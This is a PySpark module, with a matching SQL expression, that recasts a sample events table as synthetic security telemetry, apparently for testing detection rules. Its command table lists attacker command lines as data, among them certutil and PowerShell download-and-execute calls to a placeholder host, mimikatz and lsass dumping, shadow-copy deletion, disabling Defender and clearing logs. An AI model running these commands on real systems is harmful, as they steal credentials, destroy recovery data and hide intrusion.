"""The sample ``events`` table seen as security events, by arithmetic only.

``driver_view`` is the DataFrame, ``VIEW_SQL`` the same projection as a SQL common table
expression ``ev`` for checking results with another engine.
"""

from __future__ import annotations

from pyspark.sql import Column, DataFrame, SparkSession, functions as F

from .operators.normalize import canonical_columns
from .schema import PROMOTED

WINDOW_SECS = 604_800  # seven days: the table has one row in three minutes

COMMANDS = {
    1: "powershell.exe -EncodedCommand SQBFAFgA",
    3: "certutil.exe -urlcache -f http://files.test/a.exe C:\\Temp\\a.exe",
    5: "wmic /node:SRV1 process call create calc.exe",
    7: "schtasks /create /tn upd /tr calc.exe",
    9: "net user bob Secret1 /add",
    11: "vssadmin delete shadows /all",
    13: "bcdedit /set {default} recoveryenabled no",
    15: "sc stop windefend",
    17: "powershell Set-MpPreference -DisableRealtimeMonitoring 1",
    19: "wevtutil cl Security",
    21: "powershell (New-Object Net.WebClient).DownloadString(http://files.test/b) | iex",
    23: "cmd /c echo x > \\\\.\\pipe\\msagent_12",
    25: "psexec.exe \\\\SRV2 cmd",
    27: "7z.exe a \\\\SRV3\\share\\out.7z C:\\docs",
    29: "mimikatz.exe sekurlsa::logonpasswords",
    31: "procdump -ma lsass.exe out.dmp",
    33: "mshta.exe javascript:alert(1)",
    35: "notepad.exe readme.txt",
    37: "pwsh -c [ScriptBlock]::Create(x) i`ex",
    39: "format.exe /change",
}
DISCOVERY = {0: "whoami /all", 2: "ipconfig /all", 4: "net view"}
PORTS = {1: "4444", 2: "8080", 3: "23"}
EXTERNAL_IP = "203.0.113.7"


def _pick(table: dict, index: Column, size: int) -> Column:
    """Lookup in a literal array: one expression however many texts there are."""
    return F.get(F.array(*[F.lit(table.get(i)) for i in range(size)]), index)


def driver_view(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The events table of ``sf_dir`` as canonical events."""
    return project_events(spark.read.parquet(f"{sf_dir}/events.parquet"))


def project_events(table: DataFrame) -> DataFrame:
    """Works on the static table and on a stream of its rows alike."""
    # props is {"k": n}; stripping the frame is cheaper than a JSON parse per use of k
    k = F.translate("props", "{\"k: }", "").cast("int")
    text = lambda c: c.cast("string")
    base = table.select(
        F.col("event_id").alias("seq"),
        F.col("ts").cast("timestamp").alias("ts"),
        k.alias("k"),
        F.concat(F.lit("H"), text(F.col("user_id") % 10)).alias("host"),
        F.concat(F.lit("u"), text(F.col("user_id"))).alias("user"),
        F.col("event_type").alias("kind"),
        (F.round(F.col("value") * 100).cast("bigint") * 10_000).alias("bytes"),
    )
    k, kind = F.col("k"), F.col("kind")
    event_type = (
        F.when(kind == "error", "login_failure")
        .when(kind == "signup", "login_success")
        .when(kind == "click", "network_connection")
        .when((kind == "view") & (k % 2 == 0), "dns_query")
        .when(kind == "view", "file_creation")
        .when((kind == "purchase") & (k < 80), "process_creation")
        .when((kind == "purchase") & (k < 90), "registry_modification")
        .when(kind == "purchase", "service_installation")
        .otherwise("unknown")
    )
    base = base.select("*", event_type.alias("event_type"))
    is_ = lambda name: F.col("event_type") == name
    fields = {
        "source_ip": F.concat(F.lit("10.0.0."), text(k % 8)),
        "pid": F.when(is_("process_creation"), text(k)),
        "dst_ip": F.when(
            is_("network_connection"),
            F.when(k.isin(2, 3), F.lit(EXTERNAL_IP)).otherwise(F.concat(F.lit("10.1.0."), text(k % 5))),
        ),
        "dst_port": F.when(
            is_("network_connection"),
            F.when(k % 4 == 0, F.lit("445")).otherwise(F.coalesce(_pick(PORTS, k, 4), text(k + 1000))),
        ),
        "bytes_out": F.when(is_("network_connection"), text(F.col("bytes"))),
        "cmd": F.when(
            is_("process_creation"),
            F.when(k % 2 == 0, _pick(DISCOVERY, k % 6, 6)).otherwise(_pick(COMMANDS, k % 40, 40)),
        ),
        "parent_image": F.when(
            is_("process_creation"),
            F.when(k % 8 == 1, "C:\\Office\\WINWORD.EXE")
            .when(k % 8 == 5, "C:\\Tools\\PAExec.exe")
            .otherwise("explorer.exe"),
        ),
        "file_path": F.when(
            is_("file_creation"),
            F.when(k % 3 == 0, F.concat(F.lit("C:\\docs\\d"), text(k), F.lit(".locked")))
            .when(k % 3 == 1, F.concat(F.lit("C:\\Users\\Public\\t"), text(k), F.lit(".EXE")))
            .otherwise("/home/x/a.txt"),
        ),
        "registry_key": F.when(
            is_("registry_modification"),
            F.when(k % 2 == 0, "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\upd").otherwise(
                "HKCU\\Software\\Other"
            ),
        ),
        "registry_value": F.when(is_("registry_modification"), F.concat(F.lit("v"), text(k))),
        "query": F.when(
            is_("dns_query"),
            F.when(k % 10 == 0, F.concat(F.repeat(F.lit("a"), 50), F.lit(".example.com"))).otherwise(
                F.concat(F.lit("h"), text(k), F.lit(".example.com"))
            ),
        ),
        "service_name": F.when(
            is_("service_installation"),
            F.when(k % 5 == 0, "PSEXESVC").otherwise(F.concat(F.lit("svc"), text(k))),
        ),
    }
    severity = F.when(k < 5, "Critical").when(k < 20, "High").when(k < 50, "Medium").when(k < 80, "Low").otherwise("Info")
    empty = F.lit(None).cast("string")
    return canonical_columns(
        base.select(
            F.concat(F.lit("e"), text(F.col("seq"))).alias("event_id"),
            "seq",
            "ts",
            F.struct(
                F.lit("mock").alias("kind"), F.col("kind").alias("name"),
                empty.alias("channel"), F.lit(None).cast("int").alias("facility"),
            ).alias("source"),
            "event_type",
            F.when(is_("unknown"), kind).alias("event_type_raw"),
            severity.alias("severity"),
            F.create_map(F.lit("kind"), kind, F.lit("k"), text(k)).alias("metadata"),
            "host",
            "user",
            *[c.alias(n) for n, c in fields.items()],
            *[empty.alias(n) for n in PROMOTED if n not in fields and n not in ("host", "user")],
        )
    )


def _sql_text(value: str) -> str:
    return "'" + value.replace("'", "''") + "'"


def _sql_case(key: str, table: dict) -> str:
    arms = " ".join(f"WHEN {v} THEN {_sql_text(t)}" for v, t in table.items())
    return f"CASE {key} {arms} END"


VIEW_SQL = f"""
ev0 AS (
  SELECT event_id AS seq, epoch_us(ts) AS us, ts, CAST(json_extract_string(props, '$.k') AS INTEGER) AS k,
         'H' || CAST(user_id % 10 AS VARCHAR) AS host, 'u' || CAST(user_id AS VARCHAR) AS "user",
         event_type AS kind, CAST(round(value * 100) AS BIGINT) * 10000 AS bytes, props
  FROM events),
ev1 AS (
  SELECT *, CASE WHEN kind = 'error' THEN 'login_failure' WHEN kind = 'signup' THEN 'login_success'
      WHEN kind = 'click' THEN 'network_connection' WHEN kind = 'view' AND k % 2 = 0 THEN 'dns_query'
      WHEN kind = 'view' THEN 'file_creation' WHEN kind = 'purchase' AND k < 80 THEN 'process_creation'
      WHEN kind = 'purchase' AND k < 90 THEN 'registry_modification'
      WHEN kind = 'purchase' THEN 'service_installation' ELSE 'unknown' END AS event_type
  FROM ev0),
ev AS (
  SELECT seq, us, ts, k, host, "user", kind, event_type, props,
    CASE WHEN k < 5 THEN 'Critical' WHEN k < 20 THEN 'High' WHEN k < 50 THEN 'Medium' WHEN k < 80 THEN 'Low' ELSE 'Info' END AS severity,
    '10.0.0.' || CAST(k % 8 AS VARCHAR) AS source_ip,
    CASE WHEN event_type = 'process_creation' THEN CAST(k AS VARCHAR) END AS pid,
    CASE WHEN event_type = 'network_connection' THEN CASE WHEN k IN (2, 3) THEN '{EXTERNAL_IP}' ELSE '10.1.0.' || CAST(k % 5 AS VARCHAR) END END AS dst_ip,
    CASE WHEN event_type = 'network_connection' THEN CASE WHEN k % 4 = 0 THEN '445' ELSE COALESCE({_sql_case('k', PORTS)}, CAST(k + 1000 AS VARCHAR)) END END AS dst_port,
    CASE WHEN event_type = 'network_connection' THEN bytes END AS bytes,
    CASE WHEN event_type = 'process_creation' THEN CASE WHEN k % 2 = 0 THEN {_sql_case('k % 6', DISCOVERY)} ELSE {_sql_case('k % 40', COMMANDS)} END END AS cmd,
    CASE WHEN event_type = 'process_creation' THEN CASE WHEN k % 8 = 1 THEN 'C:\\Office\\WINWORD.EXE' WHEN k % 8 = 5 THEN 'C:\\Tools\\PAExec.exe' ELSE 'explorer.exe' END END AS parent_image,
    CASE WHEN event_type = 'file_creation' THEN CASE WHEN k % 3 = 0 THEN 'C:\\docs\\d' || CAST(k AS VARCHAR) || '.locked' WHEN k % 3 = 1 THEN 'C:\\Users\\Public\\t' || CAST(k AS VARCHAR) || '.EXE' ELSE '/home/x/a.txt' END END AS file_path,
    CASE WHEN event_type = 'registry_modification' THEN CASE WHEN k % 2 = 0 THEN 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\upd' ELSE 'HKCU\\Software\\Other' END END AS registry_key,
    CASE WHEN event_type = 'registry_modification' THEN 'v' || CAST(k AS VARCHAR) END AS registry_value,
    CASE WHEN event_type = 'dns_query' THEN CASE WHEN k % 10 = 0 THEN repeat('a', 50) || '.example.com' ELSE 'h' || CAST(k AS VARCHAR) || '.example.com' END END AS query,
    CASE WHEN event_type = 'service_installation' THEN CASE WHEN k % 5 = 0 THEN 'PSEXESVC' ELSE 'svc' || CAST(k AS VARCHAR) END END AS service_name
  FROM ev1)
"""
